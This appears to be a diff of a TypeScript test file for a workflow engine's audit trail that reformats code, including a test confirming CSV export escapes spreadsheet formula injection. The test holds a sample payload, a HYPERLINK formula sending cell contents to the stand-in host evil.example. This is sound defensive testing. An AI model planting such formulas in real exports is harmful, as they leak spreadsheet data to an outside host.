@@ -19,7 +19,14 @@ describe.each(DIALECTS)('audit trail on %s', (dialect) => {
   async function twoWorkflows() {
     db = await createTestDatabase(dialect);
     const clock = new Clock();
-    const engine = new Engine({ db: db.prisma, definitions: [scriptedDefinition], actions: testActions(new RunLog(), clock), services: {}, instanceId: 'audit-1', options: { now: clock.now } });
+    const engine = new Engine({
+      db: db.prisma,
+      definitions: [scriptedDefinition],
+      actions: testActions(new RunLog(), clock),
+      services: {},
+      instanceId: 'audit-1',
+      options: { now: clock.now },
+    });
     const failing = (await engine.startWorkflow({ kind: 'scripted', input: { steps: [step('wipe', 'broken')] }, actor: 'U_REQ' })).workflow;
     const other = (await engine.startWorkflow({ kind: 'scripted', input: { steps: steps('a') }, actor: 'U_OTHER' })).workflow;
     await engine.runUntilIdle();
@@ -75,7 +82,21 @@ describe.each(DIALECTS)('audit trail on %s', (dialect) => {
   it('writes a formula typed as a reason as text (issue 14: spreadsheet formula injection)', async () => {
     const { failing } = await twoWorkflows();
     const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
-    const csv = auditCsv([...(await listAudit(db.prisma, failing.id)), { id: 99, at: new Date(0), workflowId: failing.id, stepKey: 'wipe', actor: '+actor', action: 'step.skip', fromStatus: null, toStatus: null, message: formula, error: '-1' }]);
+    const csv = auditCsv([
+      ...(await listAudit(db.prisma, failing.id)),
+      {
+        id: 99,
+        at: new Date(0),
+        workflowId: failing.id,
+        stepKey: 'wipe',
+        actor: '+actor',
+        action: 'step.skip',
+        fromStatus: null,
+        toStatus: null,
+        message: formula,
+        error: '-1',
+      },
+    ]);
     const rows = parse(csv, { columns: true }) as Record<string, string>[];
     expect(rows.at(-1)).toMatchObject({ actor: "'+actor", message: `'${formula}`, error: "'-1" });
     const cells = (parse(csv) as string[][]).flat();
